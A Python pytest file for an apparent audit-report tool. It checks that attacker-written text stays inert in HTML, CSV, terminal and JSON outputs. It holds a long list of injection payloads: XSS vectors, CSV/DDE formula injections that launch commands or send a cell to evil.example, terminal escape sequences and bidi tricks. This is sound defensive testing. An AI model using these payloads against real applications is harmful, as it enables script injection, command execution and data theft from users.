"""Whatever an attacker can write into an item is shown as text, in every output opskit has."""

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from report_samples import drift, report, result, statement

from opskit.audit.report import AuditReport, ControlTotal, Explanation, Outcome
from opskit.ledger.statement import Statement
from opskit.present import (
    findings_csv,
    json_text,
    report_fragment,
    report_html,
    report_json,
    report_text,
    statement_csv,
    statement_html,
    statement_json,
    statement_page,
    statement_text,
)
from opskit.present.escape import ATTRIBUTES, TAGS, plain

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</td></tr></table><h1>forged</h1>",
    "<!--><img src=x onerror=alert(1)>-->",
    "]]><img src=x onerror=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "`-alert(1)-`",
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "x;=1+1",
    '","=1+1',
    "=HYPERLINK(CONCAT('https://evil.example/',A1),'x')",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b2J",
    "\x90q\x9c",
    "line\rCLEAN: The books agree",
    "back\b\b\b\bspace",
    "bell\x07",
    "nul\x00byte",
    "\u202egnp.exe",
    "\u2066isolated\u2069",
    "zero\u200bwidth",
    "sep\u2028arated\u2029",
    "lone \ud800 surrogate",
    "tag \U000e0041\U000e007f",
    r"$$\href{javascript:alert(1)}{x}$$",
    r"\(\unicode{x41}\)",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "{{7*7}} {% raw %} ${7*7} %(x)s {0}",
    "A" * 400_000,
    "<b>" * 3_000,
)
LABELS = [f"{number}-{plain(text)[:24]}" for number, text in enumerate(PAYLOADS)]
VOID = {"meta"}


def hostile_report(text: str) -> AuditReport:
    """A report that carries one payload in every place where text can stand."""
    evidence = {"currency": text, text: text, "list": [text, {text: text}], "map": {text: text}}
    cause = Explanation(text, ((text, text), (text,)), text)
    base = drift(text, {"owed_settled": -1}, check=text)
    finding = replace(base, key=text, condition=text, explanation=cause)
    finding = replace(finding, evidence={**base.evidence, **evidence})
    failed = replace(result(text, finding), title=text, criterion=text, remedy=text, reason=text)
    failed = replace(failed, observations=(replace(finding, outcome=Outcome.NOTED),))
    broken = result(text, outcome=Outcome.ERRORED, reason=text)
    return replace(
        report(failed, broken, unjudged=(text,)),
        source=text,
        examined={text: 1},
        control_totals=(ControlTotal(text, text, 1, 2),),
    )


def hostile_statement(text: str) -> Statement:
    """A statement that carries one payload in every place where text can stand."""
    words = dict.fromkeys(("sk", "entry_id", "type", "state", "reason", "processor_ref"), text)
    line = replace(statement().lines[0], note=text, **words)
    item = {"sk": text, "label": text, text: text, "currency": text}
    items = dict.fromkeys(("payments", "payment_methods", "subscriptions"), (item,))
    named = {"account": text, "currency": text, "source": text, "unjudged": text}
    return statement(lines=(line,), settings=item, **named, **items)


class Reader(HTMLParser):
    """The elements, attributes and comments a browser would find."""

    def __init__(self, html: str) -> None:
        """Read the whole text."""
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.comments: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element that opens."""
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}
        self.open += [] if tag in VOID else [tag]

    def handle_endtag(self, tag: str) -> None:
        """Check that the innermost element is the one that closes."""
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        """Note a comment."""
        self.comments.append(data)


def pages(text: str) -> list[str]:
    """Every HTML output, carrying the payload."""
    judged, told = hostile_report(text), hostile_statement(text)
    return [
        report_html(judged, title=text),
        report_fragment(judged),
        statement_html(told),
        statement_page(told),
    ]


@pytest.mark.parametrize("text", PAYLOADS, ids=LABELS)
def test_no_payload_becomes_a_live_node(text: str) -> None:
    """A parser finds only elements and attributes of the closed sets, properly nested."""
    for html in pages(text):
        found = Reader(html)
        assert found.tags <= TAGS
        assert {name for name, _ in found.attributes} <= ATTRIBUTES
        links = [value for name, value in found.attributes if name == "href"]
        assert all(value == "#noted" or value.startswith("#check-") for value in links)
        assert not found.comments
        assert not found.open
        html.encode("utf-8")


@pytest.mark.parametrize("text", PAYLOADS, ids=LABELS)
def test_the_document_has_the_same_shape_whatever_the_text(text: str) -> None:
    """A payload adds no element: the tree is that of harmless words of the same place."""
    harmless = "harmless"
    for html, plain_html in zip(pages(text), pages(harmless), strict=True):
        assert Reader(html).tags == Reader(plain_html).tags


@pytest.fixture
def long_fields() -> Iterator[None]:
    """Let the csv reader take a whole row for one field, as a wrong delimiter makes it."""
    before = csv.field_size_limit(10_000_000)
    yield
    csv.field_size_limit(before)


@pytest.mark.usefixtures("long_fields")
@pytest.mark.parametrize("text", PAYLOADS, ids=LABELS)
def test_no_payload_becomes_a_formula(text: str) -> None:
    """No cell, parsed by comma or by semicolon, starts like a formula unless it is a number."""
    for table in (findings_csv(hostile_report(text)), statement_csv(hostile_statement(text))):
        for delimiter in (",", ";"):
            for row in csv.reader(io.StringIO(table, newline=""), delimiter=delimiter):
                assert not [cell for cell in row if is_formula(cell)]
        assert len(list(csv.reader(io.StringIO(table, newline="")))) == 2
        table.encode("utf-8")


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would evaluate the cell; a signed whole number is data."""
    start = cell.lstrip().lstrip("\ufeff\u200b")
    number = start.removeprefix("-").isdigit()
    return start.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")) and not number


@pytest.mark.parametrize("text", PAYLOADS, ids=LABELS)
def test_no_payload_acts_on_a_terminal(text: str) -> None:
    """Every line of text is printable, and a payload never starts a line of its own verdict."""
    for shown in (report_text(hostile_report(text)), statement_text(hostile_statement(text))):
        assert all(line.isprintable() for line in shown.split("\n"))
        assert "\nCLEAN" not in shown


@pytest.mark.parametrize("text", PAYLOADS, ids=LABELS)
def test_json_carries_the_payload_itself_but_raw_nowhere(text: str) -> None:
    """The document is printable ASCII on any terminal, and reads back as the stored text."""
    shown = json_text(report_json(hostile_report(text)))
    assert shown.isascii()
    assert all(line.isprintable() for line in shown.split("\n"))
    document = json.loads(shown)
    assert document["findings"][0]["account"] == text
    assert document["observations"][0]["key"] == text
    account = json.loads(json_text(statement_json(hostile_statement(text))))["account"]
    assert account == text


def test_an_item_as_large_as_dynamodb_allows_is_cut_with_its_length_said() -> None:
    """A 400,000-character value is cut on the page, in the text and the CSV, whole in JSON."""
    huge = "A" * 400_000
    finding = replace(drift(huge, {"owed_settled": -1}), key=huge, condition=huge)
    finding = replace(finding, evidence={**finding.evidence, "note": huge})
    noted = replace(finding, outcome=Outcome.NOTED)
    only_noted = replace(
        result("analytics.x", outcome=Outcome.PASSED), title=huge, observations=(noted,)
    )
    judged, seen = report(result(finding.check, finding)), report(only_noted)
    for shown in (
        *(report_text(judged), report_html(judged), findings_csv(judged)),
        *(report_html(seen), report_fragment(seen)),
    ):
        assert "(400,000 characters, cut here)" in shown
        assert len(shown) < 200_000
    for whole in (judged, seen):
        assert huge in json_text(report_json(whole))
